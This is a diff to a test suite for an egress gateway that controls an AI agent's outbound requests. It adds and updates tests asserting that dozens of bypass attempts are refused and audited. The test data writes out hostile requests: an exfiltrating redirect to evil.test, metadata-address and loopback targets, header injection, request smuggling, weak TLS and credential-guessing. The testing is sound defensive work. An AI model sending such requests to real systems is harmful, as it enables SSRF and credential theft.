@@ -22,7 +22,10 @@ function take(request: IncomingMessage, response: ServerResponse): void {
   );
   if (request.url === "/public/moved")
     return void response.writeHead(302, { location: `https://evil.test:${outside.port}/?k=${secret}` }).end();
-  response.end("it arrived");
+  request.resume().on("end", () => {
+    if (Object.keys(request.trailers).length > 0) arrived.push(`${host} TRAILERS /`);
+    response.end("it arrived");
+  });
 }
 
 const attack = (secured: number, open: number): string => `
@@ -32,7 +35,7 @@ const port = ${secured};
 const at = "api.test:" + port;
 const doors = (authority) => () => tunnel(authority);
 const http = (target, host, fields = []) => raw(["GET " + target + " HTTP/1.1", ...(host === undefined ? [] : ["Host: " + host]), "Connection: close", ...fields, "", ""].join("\\r\\n")).then((text) => ({ status: Number(text.split(" ")[1] ?? 0), text }));
-const h2 = (more, body) => () => inHttp2(at, { ":method": "GET", ":path": "/public/h2", ":scheme": "https", ":authority": at, ...more }, body);
+const h2 = (more, body, times) => () => inHttp2(at, { ":method": "GET", ":path": "/public/h2", ":scheme": "https", ":authority": at, ...more }, body, times);
 const placeholder = "Authorization: Bearer cordon_ph_key";
 const hello = (mutate) => async () => {
   const { socket } = await tunnel(at);
@@ -125,9 +128,9 @@ await report({
   "h2: scheme http": h2({ ":scheme": "http" }),
   "h2: method not allowed": h2({ ":method": "DELETE" }),
   "h2: path not allowed": h2({ ":path": "/admin" }),
-  "h2: absolute path": h2({ ":path": "https://evil.test/" }),
+  "h2: absolute path": h2({ ":path": "https://evil.test/" }, undefined, 3),
   "h2: line end in a field": h2({ "x-a": "b\\r\\nHost: evil.test" }),
-  "h2: extended connect": h2({ ":method": "CONNECT", ":protocol": "websocket" }),
+  "h2: extended connect": h2({ ":method": "CONNECT", ":protocol": "websocket" }, undefined, 3),
   "credential: unbound host": () => http("http://plain.test:${open}/public/x", "plain.test:${open}", [placeholder]),
   "credential: unbound path": () => inTls(at, get(at, "/public/x", [placeholder])),
   "credential: unbound header": () => inTls(at, get(at, "/bound/x", ["X-Key: cordon_ph_key"])),
@@ -139,6 +142,16 @@ await report({
   "credential: a key of one's own": () => inTls(at, get(at, "/bound/x", ["Authorization: Bearer attackers-own-key"])),
   "credential: none where it is required": () => inTls(at, get(at, "/bound/x")),
   "credential: two of them": () => inTls(at, get(at, "/bound/x", [placeholder, placeholder])),
+  "credential: guessed names": async () => {
+    const answers = [];
+    for (const name of ["a", "key2", "github", "openai", "KEY", "key-", "key%31", "other"]) answers.push(await inTls(at, get(at, "/bound/x", ["Authorization: Bearer cordon_ph_" + name])));
+    return answers.find(({ status }) => status !== 403) ?? answers[0];
+  },
+  "credential: in a trailer": () => inTls(at, post(at, "/public/trailer", ["Transfer-Encoding: chunked", "Trailer: Authorization", "Connection: close"], "2\\r\\n{}\\r\\n0\\r\\n" + placeholder + "\\r\\n\\r\\n")),
+  "tls: too old": async () => {
+    const { socket } = await tunnel(at);
+    return { status: (await secure(socket, "api.test", { minVersion: "TLSv1.1", maxVersion: "TLSv1.1", ciphers: "ALL:@SECLEVEL=0" })) ? 200 : 0, text: "" };
+  },
   "redirect": () => inTls(at, get(at, "/public/moved")),
   "websocket: path not allowed": () => inTls(at, get(at, "/admin", ["Upgrade: websocket", "Connection: upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="])),
   "desk by its whole address": () => http("http://desk/v1/status", "desk"),
@@ -184,9 +197,9 @@ agents:
 });
 
 after(async () => {
-  await mesh.stop();
-  await outside.close();
-  await plain.close();
+  await mesh?.stop();
+  await outside?.close();
+  await plain?.close();
 });
 
 test("what is allowed goes out, with the credential where it is bound", () => {
@@ -207,7 +220,7 @@ test("nothing else goes out", () => {
     "/public/moved",
   ]);
   // Sound requests, whose trick the gateway has taken away or to which no answer came back.
-  fine.add("/public/carrier").add("/public/h2");
+  fine.add("/public/carrier").add("/public/h2").add("/public/trailer");
   assert.deepEqual(
     arrived.filter((line) => !fine.has(line.split(" ")[2] ?? "")),
     [],
@@ -224,7 +237,7 @@ test("nothing else goes out", () => {
 test("every trick is refused", () => {
   assert.ok(answers.size > 70);
   for (const [name, { status, text }] of answers) {
-    if (/^(fine:|still|redirect|smuggle: hop|h2: line end)/.test(name)) continue;
+    if (/^(?:fine:|still)/.test(name) || disarmed.has(name)) continue;
     assert.ok(
       status === 0 || status === -1 || (status >= 400 && status < 500),
       `${name}: ${status} ${text.slice(0, 300)}`,
@@ -233,25 +246,94 @@ test("every trick is refused", () => {
   }
 });
 
-test("refusals name their reason", () => {
-  const reasons: Readonly<Record<string, RegExp>> = {
-    "connect: unlisted host": /may not reach https:\/\/evil\.test/,
-    "connect: a name of the host itself": /`localhost` is at .*, which is not public: loopback/,
-    "connect: decimal address": /an address in an unusual form/,
-    "connect: trailing dot": /ends with a dot/,
-    "connect: user info": /holds user info/,
-    "host: another": /names another place than the connection/,
-    "host: not that of the absolute-form": /names another place than the connection/,
-    "method: overridden": /changes what was decided on/,
-    "path: dots": /dot segments/,
-    "path: not allowed": /may not GET https:\/\/api\.test/,
-    "h2: another authority": /names another place/,
-    "credential: unbound host": /is not bound/,
-    "credential: a key of one's own": /must carry the fleet's own credential/,
-    "credential: in a cookie": /one placeholder/,
-    "tls: plain text in a tunnel to https": /may not GET http:/,
-  };
-  for (const [name, reason] of Object.entries(reasons)) assert.match(answers.get(name)?.text ?? "", reason, name);
+/** Why each is refused: told to the agent where there is a language for it, and evidence in any case. */
+const unusual = /an address in an unusual form/;
+const elsewhere = /`Host` names another place than the connection/;
+const once = /a request names its host exactly once/;
+const unescaped = /the target holds characters that must be escaped/;
+const unread = /the request cannot be read \(HPE_|the request cannot be read \(ERR_HTTP2/;
+const overridden = /changes what was decided on/;
+const unbound = /is not bound to the/;
+const required = /must carry the fleet's own credential/;
+const stray = /where no credential may stand|a request carries one placeholder/;
+const reasons: Readonly<Record<string, RegExp>> = {
+  "connect: unlisted host": /may not reach https:\/\/evil\.test/,
+  "connect: unlisted port": /may not reach https:\/\/api\.test:22/,
+  "connect: below the star": /may not reach https:\/\/a\.b\.star\.test/,
+  "connect: the star itself": /may not reach https:\/\/star\.test/,
+  "connect: metadata address": /may not reach https:\/\/169\.254\.169\.254:80/,
+  "connect: the loopback of the host": /may not reach https:\/\/127\.0\.0\.1/,
+  ...{ "connect: decimal address": unusual, "connect: hexadecimal address": unusual },
+  ...{ "connect: octal address": unusual, "connect: short address": unusual },
+  "connect: v4-mapped address": /may not reach https:\/\/\[::ffff:7f00:1\]/,
+  "connect: zone": /holds user info, a path or an escape/,
+  "connect: trailing dot": /ends with a dot/,
+  "connect: user info": /holds user info/,
+  "connect: escape": /a path or an escape/,
+  "connect: no port": /it has no port/,
+  "connect: a name of the host itself": /`localhost` is at .*, which is not public: loopback/,
+  "tls: another server name": /its TLS asks for `evil\.test`/,
+  "tls: no server name": /its TLS asks for no name/,
+  "tls: hidden server name": /hides its server name \(ECH\)/,
+  "tls: cut short": /its first message is malformed/,
+  "tls: plain text in a tunnel to https": /may not GET http:\/\/api\.test/,
+  "tls: too old": /agree on no TLS \(ERR_SSL_UNSUPPORTED_PROTOCOL\)/,
+  "tunnel: CONNECT within": /a tunnel within a tunnel is not opened/,
+  "tunnel: absolute-form to elsewhere": /the target is not a path/,
+  ...{ "host: another": elsewhere, "host: another port": elsewhere, "host: two": once, "host: none": once },
+  "host: not that of the absolute-form": elsewhere,
+  "absolute-form: user info": /the host is not understood: it holds user info/,
+  "absolute-form: unlisted": /may not GET http:\/\/evil\.test/,
+  "absolute-form: the host itself": /may not GET http:\/\/127\.0\.0\.1/,
+  "absolute-form: https": /only `http` is asked for by its whole address/,
+  "absolute-form: a file": /only `http` is asked for by its whole address/,
+  "method: TRACE": /`TRACE` is not passed on/,
+  "method: not allowed": /may not DELETE/,
+  ...{ "method: overridden": overridden, "method: overridden with an underscore": overridden },
+  "path: not allowed": /may not GET https:\/\/api\.test:\d+\/admin/,
+  "path: overridden": overridden,
+  ...{ "path: dots": /dot segments/, "path: escaped dots": /dot segments/ },
+  ...{ "path: escaped slash": /may not GET .*%2fadmin/, "path: escaped twice": /may not GET .*%252fadmin/ },
+  ...{
+    "path: backslash": unescaped,
+    "path: parameters behind dots": /may not GET .*;\/admin/,
+    "path: fragment": unescaped,
+  },
+  ...{ "smuggle: length and chunks": unread, "smuggle: two lengths": unread, "smuggle: signed length": unread },
+  ...{ "smuggle: unknown coding": unread, "smuggle: coding with a bell": unread, "smuggle: folded field": unread },
+  "smuggle: underscore": overridden,
+  ...{ "h2: another authority": elsewhere, "h2: another host": once, "h2: scheme http": /`` is not passed on/ },
+  ...{ "h2: method not allowed": /may not DELETE/, "h2: path not allowed": /may not GET .*\/admin/ },
+  ...{ "h2: absolute path": unread, "h2: extended connect": unread },
+  ...{
+    "credential: unbound host": unbound,
+    "credential: unbound path": unbound,
+    "credential: unbound header": unbound,
+  },
+  ...{ "credential: in a cookie": stray, "credential: in the query": unbound, "credential: in the path": unbound },
+  ...{ "credential: in the body": stray, "credential: another's": unbound, "credential: guessed names": unbound },
+  ...{ "credential: a key of one's own": required, "credential: none where it is required": required },
+  "credential: two of them": /`authorization` is there twice/,
+  "websocket: path not allowed": /may not GET .*\/admin/,
+  "desk by its whole address": /may not GET http:\/\/desk/,
+};
+/** Sound requests, whose trick the gateway takes away. */
+const disarmed = new Set([
+  "smuggle: hop-by-hop length",
+  "h2: line end in a field",
+  "credential: in a trailer",
+  "redirect",
+]);
+
+test("every trick is refused for its reason, which the agent is told where there is a language for it", () => {
+  for (const [name, { status, text }] of answers) {
+    if (name.startsWith("fine:") || name === "still there" || disarmed.has(name)) continue;
+    const reason = reasons[name];
+    assert.ok(reason, `no reason is named for ${name}`);
+    if (text.includes('"reason"')) assert.match(text, reason, name);
+    else assert.ok(status === 0, `${name}: ${status} without a reason: ${text.slice(0, 200)}`);
+  }
+  for (const name of Object.keys(reasons)) assert.ok(answers.has(name), `${name} was not tried`);
 });
 
 test("a redirect brings no secret along, and is not followed for the agent", () => {
@@ -270,16 +352,16 @@ test("each refusal is in the audit, and no secret is", async () => {
     from = page.at(-1)?.seq ?? from;
   }
   const text = records.join("\n");
-  for (const reason of [
-    "evil.test",
-    "not public: loopback",
-    "hides its server name",
-    "asks for `evil.test`",
-    "asks for no name",
-    "changes what was decided on",
-    "must carry the fleet",
-  ])
-    assert.ok(text.includes(reason), reason);
+  const refused = records.flatMap((record) => {
+    const { subject, detail } = JSON.parse(record) as { subject: string; detail: { allow?: boolean; reason?: string } };
+    return subject === "agent:thief" && detail.allow === false ? [detail.reason ?? ""] : [];
+  });
+  // One for each trick: a record that another one has left does not count for it.
+  for (const reason of new Set(Object.values(reasons))) {
+    const tried = Object.keys(reasons).filter((name) => reasons[name] === reason);
+    const found = refused.filter((each) => reason.test(each)).length;
+    assert.ok(found >= tried.length, `${found} records of ${reason} for: ${tried.join(", ")}`);
+  }
   assert.ok(!text.includes(secret));
   const verified = (await mesh.desk.verifyAudit()) as { ok?: boolean };
   assert.notEqual(verified.ok, false);
